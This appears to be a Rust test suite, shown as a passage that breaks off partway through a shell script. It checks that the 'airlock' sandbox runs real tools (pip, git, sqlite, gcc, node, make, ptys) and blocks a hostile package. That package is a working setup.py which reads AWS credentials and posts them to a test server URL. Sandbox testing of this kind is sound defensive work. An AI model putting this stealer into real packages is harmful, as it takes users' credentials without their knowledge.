//! Real tools at work inside `airlock run`, for both launchers (root and uid 65534): pip
//! installing a package whose setup script steals the caller's credentials, git, sqlite in WAL
//! mode with a second writer, gcc, node with child processes, a parallel make, a program in a
//! terminal (plain mode, under `script`), Python's process pools, archives, CA store and ptys, a
//! venv with its own pip installing a wheel built in scratch, shell tools (tar, cp -a,
//! compressors, xargs -P, sort, flock, pgrep), a web server on the task's own loopback, DNS
//! lookups that fail at once, the host's full name resolved, and git pushing to a bare
//! repository through a worktree.
//!
//! Every workload is one shell script run twice per launcher: on the host first, in a fresh
//! directory with the sandbox's environment (the control: it shows what the tool prints when it
//! works, and that the hostile setup script does read the credential and reach the server
//! there), then inside, where the test asserts the same output and the same result files. A
//! tool that could not start fails the test; none is skipped.

mod common;

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;
use std::time::Duration;

use common::*;
use serde_json::{Value, json};

/// The task's PATH inside (src/spec.rs, `build_env`), given to the host control too; HOME and
/// TMPDIR are the control's own directory, as they are scratch inside.
const SANDBOX_PATH: &str = "/usr/local/bin:/usr/bin:/bin:/usr/local/sbin:/usr/sbin:/sbin";

/// Each run's bound: the workloads take a few seconds (the venv with pip 7-11 s), on a loaded
/// 2-core VM; the sandbox's own --timeout is 50 s.
const LIMIT: Duration = Duration::from_secs(60);

/// A file the workload starts with: its name in the working directory, its bytes.
type Input<'a> = (&'a str, &'a [u8]);

/// Fail unless each program exists on the host: the sandbox binds the host's /usr, so a tool
/// missing here is missing inside too, and the test must say so rather than pass.
fn require(programs: &[&str]) {
    for p in programs {
        assert!(
            Path::new(p).exists(),
            "{p} is not on this host: the workload tests need it (apt-get install the package \
             that ships it)"
        );
    }
}

/// `sh -c SCRIPT` on the host as `who`, in a fresh directory of its own (owned by `who`)
/// holding `inputs`, with the sandbox's environment plus `env` (which may set HOME); the
/// directory is returned with the run, for its result files.
fn on_host(
    who: Launcher,
    script: &str,
    inputs: &[Input],
    env: &[(&str, &str)],
) -> (Run, tempfile::TempDir) {
    let dir = tmpdir();
    for (name, text) in inputs {
        write_file(&dir.path().join(name), text, 0o644);
    }
    if who == Launcher::Unprivileged {
        let st = Command::new("chown")
            .args(["-R", "65534:65534"])
            .arg(dir.path())
            .status()
            .unwrap();
        assert!(st.success(), "chown -R 65534 {:?}: {st}", dir.path());
    }
    let mut c = host_command(who, "sh");
    c.args(["-c", script])
        .current_dir(dir.path())
        .env_clear()
        .env("PATH", SANDBOX_PATH)
        .env("HOME", dir.path())
        .env("TMPDIR", dir.path())
        .env("LANG", "C.UTF-8")
        .envs(env.iter().copied());
    (run_bounded(c, None, LIMIT), dir)
}

/// `airlock run --json --timeout 50s --input NAME=PATH... FLAGS -- sh -c SCRIPT` as `who`, with
/// `caller_env` set in airlock's own environment and the inputs written to a host directory
/// first, and the run's report.
fn inside(
    who: Launcher,
    script: &str,
    inputs: &[Input],
    flags: &[&str],
    caller_env: &[(&str, &str)],
) -> (Run, Value) {
    let dir = tmpdir();
    let specs: Vec<String> = inputs
        .iter()
        .map(|(name, text)| {
            let path = write_file(&dir.path().join(name), text, 0o644);
            format!("{name}={}", path.display())
        })
        .collect();
    let mut args = vec!["run", "--json", "--timeout", "50s"];
    for spec in &specs {
        args.extend(["--input", spec.as_str()]);
    }
    args.extend_from_slice(flags);
    args.extend(["--", "sh", "-c", script]);
    let mut c = airlock(who, &args);
    c.envs(caller_env.iter().copied());
    let run = run_bounded(c, None, LIMIT);
    let rep = run.report();
    (run, rep)
}

/// A finished report that says the task exited 0 by itself.
#[track_caller]
fn assert_exited_0(rep: &Value, ctx: &str) {
    assert_eq!(rep["exit_code"], json!(0), "{ctx}: {rep:#}");
    assert_eq!(rep["signal"], Value::Null, "{ctx}: {rep:#}");
    assert_eq!(rep["timed_out"], json!(false), "{ctx}: {rep:#}");
    assert_eq!(rep["limit_hit"], Value::Null, "{ctx}: {rep:#}");
}

/// Run `script` on the host and inside, as each launcher: both must exit 0 with exactly
/// `stdout`, nothing on stderr, and the result files `files` (name, text) in their working
/// directory; inside, they come back in the report. Prints each run's time.
fn assert_works_on_host_and_inside(
    what: &str,
    script: &str,
    inputs: &[Input],
    stdout_want: &str,
    files: &[(&str, &str)],
) {
    for who in BOTH {
        let ctx = format!("{what}, {who:?}");
        let (host, dir) = on_host(who, script, inputs, &[]);
        assert_eq!(host.code(), Some(0), "{ctx}, host control: {}", host.show());
        assert_eq!(stdout(&host.out), stdout_want, "{ctx}, host control");
        assert_eq!(stderr(&host.out), "", "{ctx}, host control");
        for (name, text) in files {
            let got = std::fs::read_to_string(dir.path().join(name))
                .unwrap_or_else(|e| panic!("{ctx}, host control: {name}: {e}"));
            assert_eq!(got, *text, "{ctx}, host control: {name}");
        }

        let (run, rep) = inside(who, script, inputs, &[], &[]);
        assert_exited_0(&rep, &ctx);
        assert_eq!(rep["stdout"], json!(stdout_want), "{ctx}: {rep:#}");
        assert_eq!(rep["stderr"], json!(""), "{ctx}: {rep:#}");
        for (name, text) in files {
            assert_eq!(rep["files"][name], json!(text), "{ctx}: {name}: {rep:#}");
        }
        eprintln!(
            "{ctx}: host {} ms, inside {} ms",
            host.took.as_millis(),
            run.took.as_millis()
        );
    }
}

// ---------------------------------------------------------------------------------------------
// 1. pip installs a package whose setup script steals the caller's credentials
// ---------------------------------------------------------------------------------------------

const PYTHON: &str = "/usr/bin/python3";

/// The hostile package's setup.py. Before it calls setup() it reads the caller's
/// ~/.aws/credentials, both through its own HOME and at the host path it is handed in
/// CALLER_CREDENTIALS, posts what it read to EXFIL_URL, and writes what it saw to SETUP_SAW:
/// `read PATH` or `not read PATH: ERRNO`, then `posted N bytes: STATUS` or `not posted:
/// ERRNO`. pip runs setup.py twice (metadata, then the wheel): it steals once.
const SETUP_PY: &str = r#"import errno, os, urllib.error, urllib.request
from setuptools import setup

def steal():
    saw = os.environ['SETUP_SAW']
    if os.path.exists(saw):
        return
    loot, lines = [], []
    for path in [os.path.expanduser('~/.aws/credentials'), os.environ['CALLER_CREDENTIALS']]:
        try:
            with open(path) as f:
                loot.append(f.read())
            lines.append('read %s' % path)
        except OSError as e:
            lines.append('not read %s: %s' % (path, errno.errorcode[e.errno]))
    data = ''.join(loot).encode()
    try:
        req = urllib.request.Request(os.environ['EXFIL_URL'], data=data)
        with urllib.request.urlopen(req, timeout=3) as r:
            lines.append('posted %d bytes: %d' % (len(data), r.status))
    except urllib.error.URLError as e:
        reason = e.reason
        if isinstance(reason, OSError) and reason.errno in errno.errorcode:
            reason = errno.errorcode[reason.errno]
        lines.append('not posted: %s' % reason)
    with open(saw, 'w') as f:
        f.write(''.join(line + '\n' for line in lines))

steal()
setup(name='stealer', version='0.1', packages=['stealer'])
"#;

/// The workload: a virtual environment in the working directory (on the system's pip and
/// setuptools: an ensurepip venv takes 4 s more per run), the sdist installed into it offline
/// with setuptools as it is, then the installed package imported from it. setup.py runs in a
/// build directory of pip's: SETUP_SAW names the result file by its full path.
const PIP_SCRIPT: &str = r#"set -e
export SETUP_SAW="$PWD/setup-saw.txt"
/usr/bin/python3 -m venv --without-pip --system-site-packages venv
venv/bin/python -m pip install --no-index --no-build-isolation --no-cache-dir stealer-0.1.tar.gz
venv/bin/python -c 'import os, stealer; print(stealer.MARK, os.path.relpath(stealer.__file__))'
"#;

const AWS_KEY: &str = "AKIA-WORKLOADS-PIP-STEALER-5c1e";

/// The bytes of stealer-0.1.tar.gz, an sdist (setup.py, PKG-INFO, the package) made with the
/// host's tar.
fn stealer_sdist() -> Vec<u8> {
    let dir = tmpdir();
    let tree = dir.path().join("stealer-0.1");
    std::fs::create_dir_all(tree.join("stealer")).unwrap();
    std::fs::write(tree.join("setup.py"), SETUP_PY).unwrap();
    std::fs::write(
        tree.join("PKG-INFO"),
        "Metadata-Version: 1.0\nName: stealer\nVersion: 0.1\n",
    )
    .unwrap();
    std::fs::write(
        tree.join("stealer/__init__.py"),
        "MARK = 'stealer-imported'\n",
    )
    .unwrap();
    run_ok(
        Command::new("/usr/bin/tar")
            .args(["-czf", "stealer-0.1.tar.gz", "stealer-0.1"])
            .current_dir(dir.path()),
    );
    std::fs::read(dir.path().join("stealer-0.1.tar.gz")).unwrap()
}

/// pip said it installed stealer-0.1 and the import found it in the venv; returns the
/// import's line.
#[track_caller]
fn assert_installed(text: &str, ctx: &str) -> String {
    assert!(
        text.lines()
            .any(|l| l == "Successfully installed stealer-0.1"),
        "{ctx}: pip did not say it installed stealer-0.1:\n{text}"
    );
    let imported = text.lines().last().unwrap_or("");
    assert!(
        imported.starts_with("stealer-imported venv/lib/python3.")
            && imported.ends_with("/site-packages/stealer/__init__.py"),
        "{ctx}: the package was not imported from the venv:\n{text}"
    );
    imported.to_string()
}

#[test]
fn pip_installs_a_credential_stealing_sdist_that_reads_and_reaches_nothing() {
    require(&[PYTHON, "/usr/bin/tar"]);
    // The caller's home, not under /tmp: inside, /tmp is scratch, which would hide a path
    // there for another reason than the boundary.
    let home = tmpdir_in(Path::new("/var/tmp"));
    let aws = home.path().join(".aws");
    std::fs::create_dir(&aws).unwrap();
    std::fs::set_permissions(&aws, std::fs::Permissions::from_mode(0o755)).unwrap();
    let creds = format!("[default]\naws_access_key_id = {AWS_KEY}\n");
    let creds_path = write_file(&aws.join("credentials"), creds.as_bytes(), 0o644);
    let creds_path = creds_path.to_str().unwrap();
    let home_path = home.path().to_str().unwrap();
    let sdist = stealer_sdist();
    let inputs: [Input; 1] = [("stealer-0.1.tar.gz", &sdist)];
    let server = Server::start(Duration::from_secs(120));
    let caller_env = [
        ("HOME", home_path),
        ("CALLER_CREDENTIALS", creds_path),
        ("EXFIL_URL", server.url.as_str()),
    ];

    for who in BOTH {
        let ctx = format!("pip install, {who:?}");
        // The control: on the host, with the caller's HOME, the same install steals.
        let hits = server.hits();
        let (host, dir) = on_host(who, PIP_SCRIPT, &inputs, &caller_env);
        assert_eq!(host.code(), Some(0), "{ctx}, host control: {}", host.show());
        let imported = assert_installed(&stdout(&host.out), &format!("{ctx}, host control"));
        assert_eq!(
            std::fs::read_to_string(dir.path().join("setup-saw.txt")).unwrap(),
            format!(
                "read {creds_path}\nread {creds_path}\nposted {} bytes: 200\n",
                2 * creds.len()
            ),
            "{ctx}, host control: the setup script did not steal"
        );
        assert_eq!(server.hits(), hits + 1, "{ctx}, host control");
        assert!(
            server.received().contains(AWS_KEY),
            "{ctx}, host control: the server did not get the key"
        );

        // Inside: the caller's HOME is set in airlock's own environment, and the host path of
        // the credentials and the server's address are forwarded.
        let hits = server.hits();
        let received = server.received().len();
        let forwarded = [
            format!("CALLER_CREDENTIALS={creds_path}"),
            format!("EXFIL_URL={}", server.url),
        ];
        let flags = ["--env", &forwarded[0], "--env", &forwarded[1]];
        let (run, rep) = inside(who, PIP_SCRIPT, &inputs, &flags, &caller_env);
        assert_exited_0(&rep, &ctx);
        let out = rep["stdout"].as_str().unwrap();
        assert_eq!(assert_installed(out, &ctx), imported, "{ctx}");
        assert_eq!(rep["stderr"], json!(""), "{ctx}: {rep:#}");
        assert_eq!(
            rep["files"]["setup-saw.txt"],
            json!(format!(
                "not read /work/.aws/credentials: ENOENT\nnot read {creds_path}: ENOENT\n\
                 not posted: ECONNREFUSED\n"
            )),
            "{ctx}: {rep:#}"
        );
        assert_eq!(server.hits(), hits, "{ctx}: the sandbox reached the host");
        assert_eq!(server.received().len(), received, "{ctx}");
        assert!(
            !stdout(&run.out).contains(AWS_KEY) && !stderr(&run.out).contains(AWS_KEY),
            "{ctx}: the key leaked: {}",
            run.show()
        );
        eprintln!(
            "{ctx}: host {} ms, inside {} ms",
            host.took.as_millis(),
            run.took.as_millis()
        );
    }
}

// ---------------------------------------------------------------------------------------------
// 2. git
// ---------------------------------------------------------------------------------------------

/// /usr/bin/git, Debian's: the host's newer /usr/local/bin/git is first on PATH inside too.
const GIT: &str = "/usr/bin/git";

/// The start of each git workload: `g` is git with a fixed author and fixed dates, so commits
/// have the same hashes wherever they are made.
macro_rules! git_prelude {
    () => {
        r#"set -e
export GIT_CONFIG_NOSYSTEM=1 GIT_AUTHOR_DATE='2000-01-01T00:00:00Z' GIT_COMMITTER_DATE='2000-01-01T00:00:00Z'
g() { /usr/bin/git -c user.name=Airlock -c user.email=airlock@example.invalid -c init.defaultBranch=main "$@"; }
"#
    };
}

/// Two commits; then a check of every object, and a repack into one pack (lock files, renames).
const GIT_SCRIPT: &str = concat!(
    git_prelude!(),
    r#"g init -q repo
cd repo
echo one > a.txt
g add a.txt
g commit -q -m first
echo two >> a.txt
g commit -q -am second
g log --format='%H %s'
g rev-list --count HEAD
g fsck --strict --no-progress
g gc -q
g count-objects -v | grep -E '^(count|in-pack):'
g show HEAD:a.txt > ../a.txt
"#
);

#[test]
fn git_commits_logs_and_repacks_in_scratch() {
    require(&[GIT]);
    assert_works_on_host_and_inside(
        "git",
        GIT_SCRIPT,
        &[],
        "3a9f97038ff16560c3fc98b48937974d743e2ed7 second\n\
         e39a4ed186cff4df584627132b2a22a9d3a7c40e first\n2\ncount: 0\nin-pack: 6\n",
        &[("a.txt", "one\ntwo\n")],
    );
}

// ---------------------------------------------------------------------------------------------
// 3. sqlite in WAL mode, with a second writer
// ---------------------------------------------------------------------------------------------

const SQLITE3: &str = "/usr/bin/sqlite3";

/// A WAL database; a holder (its SQL fed through a FIFO) opens a write transaction and keeps
/// it while a contender tries to write (refused: the lock is held) and a reader reads (the
/// committed rows: WAL readers do not wait for the writer); after the commit the contender's
/// write goes through. Without working locks the contended write would succeed. The wait for
/// the holder uses `grep -s`: holder.txt appears only once the holder's shell, unblocked by the
/// FIFO's writer, gets to its redirection, and a grep before that said so on stderr (a CI run
/// failed on that line in its host control).
const SQLITE_SCRIPT: &str = r#"set -e
/usr/bin/sqlite3 db "PRAGMA journal_mode=WAL; CREATE TABLE t(x); INSERT INTO t VALUES(1),(2);"
mkfifo ctl
/usr/bin/sqlite3 db < ctl > holder.txt 2>&1 &
exec 3>ctl
echo "BEGIN IMMEDIATE; INSERT INTO t VALUES(3); SELECT 'holder: in transaction';" >&3
i=0
until grep -qs 'in transaction' holder.txt; do
    i=$((i + 1)); [ $i -lt 100 ] || { echo 'the holder never began'; exit 1; }; sleep 0.05
done
echo "contender: $(/usr/bin/sqlite3 db 'INSERT INTO t VALUES(4);' 2>&1 || true)"
echo "reader: $(/usr/bin/sqlite3 db 'SELECT group_concat(x) FROM t;')"
ls db-wal db-shm
echo "COMMIT;" >&3
exec 3>&-
wait
/usr/bin/sqlite3 db "INSERT INTO t VALUES(4);"
echo "after: $(/usr/bin/sqlite3 db 'SELECT group_concat(x) FROM t; PRAGMA journal_mode;' | tr '\n' ' ')"
"#;

#[test]
fn sqlite_in_wal_mode_locks_out_a_second_writer_in_scratch() {
    require(&[SQLITE3]);
    assert_works_on_host_and_inside(
        "sqlite3",
        SQLITE_SCRIPT,
        &[],
        "wal\ncontender: Error: stepping, database is locked (5)\nreader: 1,2\ndb-shm\ndb-wal\n\
         after: 1,2,3,4 wal \n",
        &[("holder.txt", "holder: in transaction\n")],
    );
}

// ---------------------------------------------------------------------------------------------
// 4. gcc
// ---------------------------------------------------------------------------------------------

const GCC: &str = "/usr/bin/gcc";

/// A shared library built in scratch and found beside the program ($ORIGIN), libm, a child
/// through fork and a pipe, a result file.
const ANSWER_C: &str = r#"#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>

int twice(int);

int main(int argc, char **argv) {
    int fds[2];
    if (pipe(fds) != 0) return 1;
    pid_t pid = fork();
    if (pid < 0) return 2;
    if (pid == 0) {
        close(fds[0]);
        dprintf(fds[1], "%d", twice(21));
        _exit(7);
    }
    close(fds[1]);
    char buf[16] = {0};
    if (read(fds[0], buf, sizeof buf - 1) <= 0) return 3;
    int status;
    if (waitpid(pid, &status, 0) != pid) return 4;
    FILE *f = fopen("answer.txt", "w");
    if (!f) return 5;
    double n = atof(buf) + argc - 1;
    fprintf(f, "sqrt(%s * %s) = %.0f\n", buf, buf, sqrt(n * n));
    fclose(f);
    printf("child wrote %s and exited %d\n", buf, WEXITSTATUS(status));
    return 0;
}
"#;

const GCC_SCRIPT: &str = r#"set -e
printf 'int twice(int n) { return 2 * n; }\n' > twice.c
/usr/bin/gcc -O2 -Wall -Werror -fPIC -shared -o libtwice.so twice.c
/usr/bin/gcc -O2 -Wall -Werror -o answer answer.c -L. -ltwice -lm -Wl,-rpath,'$ORIGIN'
./answer
"#;

#[test]
fn gcc_builds_a_program_and_its_shared_library_in_scratch_and_runs_it() {
    require(&[GCC]);
    assert_works_on_host_and_inside(
        "gcc",
        GCC_SCRIPT,
        &[("answer.c", ANSWER_C.as_bytes())],
        "child wrote 42 and exited 7\n",
        &[("answer.txt", "sqrt(42 * 42) = 42\n")],
    );
}

// ---------------------------------------------------------------------------------------------
// 5. node
// ---------------------------------------------------------------------------------------------

const NODE: &str = "/usr/bin/node";

/// A file written, read back by a shell it runs (execFileSync), a node worker it forks (an IPC
/// channel: a socket pair), then a spawned shell that appends to the file.
const NODE_JS: &str = r#"const { execFileSync, fork, spawn } = require('child_process');
const fs = require('fs');
if (process.argv[2] === 'worker') {
  process.on('message', (m) => process.send({ doubled: m.n * 2 }));
} else {
  fs.writeFileSync('note.txt', 'written by node\n');
  console.log('sh read: ' + execFileSync('sh', ['-c', 'cat note.txt']).toString().trim());
  const w = fork(__filename, ['worker']);
  w.on('message', (m) => {
    console.log('worker doubled 21: ' + m.doubled);
    w.disconnect();
  });
  w.on('exit', (code) => {
    console.log('worker exited ' + code);
    spawn('sh', ['-c', 'echo spawned by node >> note.txt'], { stdio: 'inherit' })
      .on('exit', (code) => console.log('spawned shell exited ' + code));
  });
  w.send({ n: 21 });
}
"#;

#[test]
fn node_writes_a_file_and_runs_child_processes_in_scratch() {
    require(&[NODE]);
    assert_works_on_host_and_inside(
        "node",
        "/usr/bin/node script.js",
        &[("script.js", NODE_JS.as_bytes())],
        "sh read: written by node\nworker doubled 21: 42\nworker exited 0\n\
         spawned shell exited 0\n",
        &[("note.txt", "written by node\nspawned by node\n")],
    );
}

// ---------------------------------------------------------------------------------------------
// 6. make -j2
// ---------------------------------------------------------------------------------------------

const MAKE: &str = "/usr/bin/make";

/// c and d each wait up to TICKS times 50 ms (3 s) for the other to start, so both finish only
/// when two jobs run at once: the sub-make gets its second job from the top make's jobserver (a
/// pipe handed down through MAKEFLAGS).
const MAKEFILE: &str = r#"TICKS ?= 60
all: sub
	cat c d > all
	cat all
sub:
	+$(MAKE) c d
c d:
	touch $@.started
	i=0; until [ -e $(if $(filter c,$@),d,c).started ]; do \
		i=$$((i + 1)); [ $$i -lt $(TICKS) ] || exit 1; sleep 0.05; done
	echo "$@ ran beside $(if $(filter c,$@),d,c)" > $@
"#;

#[test]
fn make_runs_two_jobs_at_once_through_its_jobserver_in_scratch() {
    require(&[MAKE]);
    let inputs: [Input; 1] = [("Makefile", MAKEFILE.as_bytes())];
    let both = "c ran beside d\nd ran beside c\n";
    assert_works_on_host_and_inside(
        "make -j2",
        "/usr/bin/make -s -j2",
        &inputs,
        both,
        &[
            ("all", both),
            ("c", "c ran beside d\n"),
            ("d", "d ran beside c\n"),
        ],
    );
    // The control: one job at a time, c waits for d in vain (for 0.5 s) and the build fails.
    for who in BOTH {
        let (_, rep) = inside(who, "/usr/bin/make -s -j1 TICKS=10", &inputs, &[], &[]);
        assert_eq!(rep["exit_code"], json!(2), "make -j1, {who:?}: {rep:#}");
        assert_eq!(
            rep["stderr"],
            json!("make[1]: *** [Makefile:9: c] Error 1\nmake: *** [Makefile:6: sub] Error 2\n"),
            "make -j1, {who:?}: {rep:#}"
        );
        assert_eq!(rep["files"], json!({"c.started": ""}), "make -j1, {who:?}");
    }
}

// ---------------------------------------------------------------------------------------------
// 7. a program in a terminal
// ---------------------------------------------------------------------------------------------

const SCRIPT: &str = "/usr/bin/script";

/// What a program in a terminal asks of it: whether its streams are one (tty(1), isatty) and
/// the terminal's name (ttyname(3), which tmux, gpg's pinentry and ssh-agent prompts need),
/// the same for stdin and stdout.
const TERMINAL_SH: &str = r#"if tty >/dev/null; then
    /usr/bin/python3 -c 'import os; print("ttyname(0) == ttyname(1):", os.ttyname(0) == os.ttyname(1))'
else
    echo "not a terminal"
fi
"#;

/// `script` runs airlock (plain mode, which passes a terminal through as it is) in a pseudo
/// terminal it makes, as an agent's pty tool would, and the task finds its terminal's name as
/// the same probe does on the host: airlock binds it at /dev/console, where ttyname(3) looks,
/// since the host's /dev/pts/N is not in the sandbox's devpts. (Before, `tty` said "not a
/// tty" of a terminal isatty(3) took for one.) A JSON run's streams are pipes: no terminal
/// there, and no /dev/console.
#[test]
fn a_program_in_a_terminal_finds_its_name() {
    require(&[SCRIPT, PYTHON]);
    let inputs: [Input; 1] = [("terminal.sh", TERMINAL_SH.as_bytes())];
    let airlock = binary().to_str().unwrap();
    let want = "ttyname(0) == ttyname(1): True\n";
    for who in BOTH {
        let ctx = format!("a terminal, {who:?}");
        for (place, script) in [
            ("host control", "script -qec 'sh terminal.sh' /dev/null"),
            (
                "inside",
                "script -qec \"$AIRLOCK run --timeout 20s --input terminal.sh=$PWD/terminal.sh \
                 -- sh terminal.sh\" /dev/null",
            ),
        ] {
            let (run, _dir) = on_host(who, script, &inputs, &[("AIRLOCK", airlock)]);
            assert_eq!(run.code(), Some(0), "{ctx}, {place}: {}", run.show());
            assert_eq!(
                stdout(&run.out).replace('\r', ""),
                want,
                "{ctx}, {place}: {}",
                run.show()
            );
        }
        // A JSON run in a terminal: the task's streams are pipes and /dev/null, and the
        // caller's terminal is not bound for it either (it was, and an unprivileged caller's
        // task, the terminal's owner, wrote into it and could read what was typed there).
        let (run, _dir) = on_host(
            who,
            "script -qec \"$AIRLOCK run --json --timeout 20s -- sh -c 'test -e /dev/console \
             && echo >/dev/console TASK-WROTE-HERE; ls /dev'\" /dev/null",
            &[],
            &[("AIRLOCK", airlock)],
        );
        let out = stdout(&run.out);
        assert_eq!(run.code(), Some(0), "{ctx}, json: {}", run.show());
        assert!(
            out.contains(r#""exit_code":0"#) && out.contains(r#""stdout":"core\nfd\n"#),
            "{ctx}, json: {}",
            run.show()
        );
        assert!(
            !out.contains("TASK-WROTE-HERE"),
            "{ctx}, json: {}",
            run.show()
        );
        let (_, rep) = inside(
            who,
            "sh terminal.sh; test -e /dev/console || echo 'no /dev/console'",
            &inputs,
            &[],
            &[],
        );
        assert_exited_0(&rep, &ctx);
        assert_eq!(
            rep["stdout"],
            json!("not a terminal\nno /dev/console\n"),
            "{ctx}: {rep:#}"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// 8. Python's standard library: process pools, archives, the CA store, a pty
// ---------------------------------------------------------------------------------------------

/// Pools of each start method (their locks are POSIX semaphores in /dev/shm; forkserver's is a
/// unix socket in TMPDIR), a Manager, archives of a tree packed and unpacked in a temporary
/// directory (gzip, xz, zip), the system's CA certificates through ssl's default context, and
/// children in pseudo-terminals of their own (pty.fork, script).
const STDLIB_PY: &str = r#"import concurrent.futures, multiprocessing, os, pty, shutil, ssl, subprocess, tarfile, tempfile, zipfile


def square(n):
    return n * n


def main():
    # Pools of each start method: a semaphore in /dev/shm, pipes, a forkserver's unix socket.
    for method in ("fork", "spawn", "forkserver"):
        with multiprocessing.get_context(method).Pool(2) as pool:
            print(method, pool.map(square, range(4)))
    with concurrent.futures.ProcessPoolExecutor(2) as ex:
        print("ProcessPoolExecutor", list(ex.map(square, [5, 6])))
    with multiprocessing.Manager() as m:
        d = m.dict(a=1)
        print("Manager", dict(d))
    # Archives of a tree made in a temporary directory, unpacked back.
    with tempfile.TemporaryDirectory() as tmp:
        tree = os.path.join(tmp, "tree")
        os.makedirs(os.path.join(tree, "sub"))
        with open(os.path.join(tree, "sub", "f.txt"), "w") as f:
            f.write("x" * 1000)
        os.chmod(os.path.join(tree, "sub", "f.txt"), 0o640)
        os.symlink("f.txt", os.path.join(tree, "sub", "link"))
        shutil.copytree(tree, os.path.join(tmp, "copy"), symlinks=True)
        for fmt in ("gztar", "xztar", "zip"):
            arc = shutil.make_archive(os.path.join(tmp, "arc"), fmt, tree)
            out = os.path.join(tmp, "out-" + fmt)
            shutil.unpack_archive(arc, out)
            print(fmt, sorted(os.listdir(os.path.join(out, "sub"))),
                  oct(os.stat(os.path.join(out, "sub", "f.txt")).st_mode & 0o777))
        with tarfile.open(os.path.join(tmp, "arc.tar.gz")) as t:
            print("tarfile", sorted(t.getnames()))
        with zipfile.ZipFile(os.path.join(tmp, "arc.zip")) as z:
            print("zipfile", z.testzip(), len(z.namelist()))
    # The CA store, through the system's OpenSSL configuration.
    print("CA certificates loaded", ssl.create_default_context().cert_store_stats()["x509_ca"] > 0)
    # A child in a pseudo-terminal of its own.
    pid, fd = pty.fork()
    if pid == 0:
        os.execv("/bin/sh", ["sh", "-c", "test -t 0 && test -t 1 && echo in a pty"])
    out = b""
    while True:
        try:
            chunk = os.read(fd, 100)
        except OSError:
            break
        if not chunk:
            break
        out += chunk
    print("pty.fork:", out.decode().strip(), os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))
    print("script:", subprocess.run(["script", "-qec", "tty -s && echo in a pty", "/dev/null"],
                                    capture_output=True, text=True).stdout.strip())


if __name__ == "__main__":
    main()
"#;

#[test]
fn python_process_pools_archives_ssl_and_ptys_work_in_scratch() {
    require(&[PYTHON, SCRIPT]);
    assert_works_on_host_and_inside(
        "python stdlib",
        "/usr/bin/python3 stdlib.py",
        &[("stdlib.py", STDLIB_PY.as_bytes())],
        "fork [0, 1, 4, 9]\nspawn [0, 1, 4, 9]\nforkserver [0, 1, 4, 9]\n\
         ProcessPoolExecutor [25, 36]\nManager {'a': 1}\n\
         gztar ['f.txt', 'link'] 0o640\nxztar ['f.txt', 'link'] 0o640\n\
         zip ['f.txt', 'link'] 0o644\ntarfile ['.', './sub', './sub/f.txt', './sub/link']\n\
         zipfile None 3\nCA certificates loaded True\npty.fork: in a pty 0\nscript: in a pty\n",
        &[],
    );
}

// ---------------------------------------------------------------------------------------------
// 9. a virtual environment with pip, a wheel built in scratch
// ---------------------------------------------------------------------------------------------

/// As an agent sets a project up: a wheel built from a pyproject.toml with the system's pip and
/// setuptools (offline), a venv with its own pip (ensurepip, from the wheels Debian ships in
/// /usr/share/python-wheels), the wheel installed into it and imported, the sources compiled.
const VENV_SCRIPT: &str = r#"set -e
mkdir -p src/greet
printf 'def hello():\n    return "hello from a wheel built here"\n' > src/greet/__init__.py
printf '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n[project]\nname = "greet"\nversion = "1.0"\n' > src/pyproject.toml
/usr/bin/python3 -m pip wheel -q --no-build-isolation --no-deps --no-index --no-cache-dir -w dist ./src
/usr/bin/python3 -m venv venv
venv/bin/pip install -q --no-index --no-cache-dir dist/greet-1.0-py3-none-any.whl
venv/bin/python -c 'import greet, os; print(greet.hello(), os.path.relpath(greet.__file__))'
venv/bin/python -m compileall -q src
ls src/greet/__pycache__ | sed 's/cpython-3[0-9]*/cpython-3X/'
"#;

#[test]
fn python_venv_with_pip_installs_a_wheel_built_in_scratch() {
    require(&[PYTHON]);
    assert_works_on_host_and_inside(
        "venv",
        VENV_SCRIPT,
        &[],
        "hello from a wheel built here venv/lib/python3.11/site-packages/greet/__init__.py\n\
         __init__.cpython-3X.pyc\n",
        &[],
    );
}

// ---------------------------------------------------------------------------------------------
// 10. shell tools: archives, copies, compression, parallel xargs, sort, locks, processes
// ---------------------------------------------------------------------------------------------

/// A tree with modes, times and a symlink through tar (gzip, xz; -p) and `cp -a`, which keep
/// all three; compressors piped into each other; `xargs -P`; a sort that spills to temporary
/// files in TMPDIR (64 KiB of buffer); `split`; a `flock` held by another process, then free;
/// `timeout`; `nohup`; `pgrep` and `ps` finding a child through /proc; perl with its modules.
/// The modes have no setuid or setgid bit.
const SHELL_SCRIPT: &str = r#"set -e
mkdir -p tree/sub
echo one > tree/a.txt; seq 1 500 > tree/sub/b.txt; ln -s ../a.txt tree/sub/link
chmod 0640 tree/a.txt; chmod 0750 tree/sub; touch -h -d '2001-02-03 04:05:06Z' tree/a.txt tree/sub/link tree/sub
# Archives and copies that keep modes, times and links.
tar -czf tree.tgz tree && mkdir x && tar -xzpf tree.tgz -C x
tar -cJf tree.txz tree && mkdir y && tar -xJf tree.txz -C y
cp -a tree copy
for t in x/tree y/tree copy; do (cd $t && stat -c '%A %y %N' a.txt sub sub/link); done | sort | uniq -c | sed 's/^ *//'
find tree -type f -exec md5sum {} + | sort -k2 | md5sum | cut -c1-8
# Compression pipes, a parallel xargs, a sort that spills to temporary files, split.
seq 1 200000 | gzip | xz | zstd -q | zstd -dq | unxz | gunzip | tail -n1
seq 1 8 | xargs -P4 -I{} sh -c 'echo {} > part.{}' && cat part.* | sort -n | tr '\n' ' ' && echo
seq 1 100000 | sort -R --random-source=tree/sub/b.txt | sort -n -S 64K -T "$TMPDIR" | md5sum | cut -c1-8
seq 1 100000 | md5sum | cut -c1-8
seq 1 1000 | split -l 300 - chunk. && wc -l chunk.* | tr -s ' ' | tr '\n' ';' && echo
# Locks, timeouts, nohup, processes.
flock lock sleep 1 & i=0
while flock -n lock true; do i=$((i + 1)); [ $i -lt 100 ] || break; sleep 0.05; done
[ $i -lt 100 ] && echo "flock -n: held by another"
wait
flock -n lock true && echo "flock -n: free again"
timeout 0.2 sleep 5 || echo "timeout: $?"
nohup sh -c 'echo from nohup' > nohup.txt 2>&1 && cat nohup.txt
sleep 5 & i=0
until pgrep -P $$ -x sleep > /dev/null; do i=$((i + 1)); [ $i -lt 100 ] || break; sleep 0.05; done
ps -o comm= -p $!; kill $!
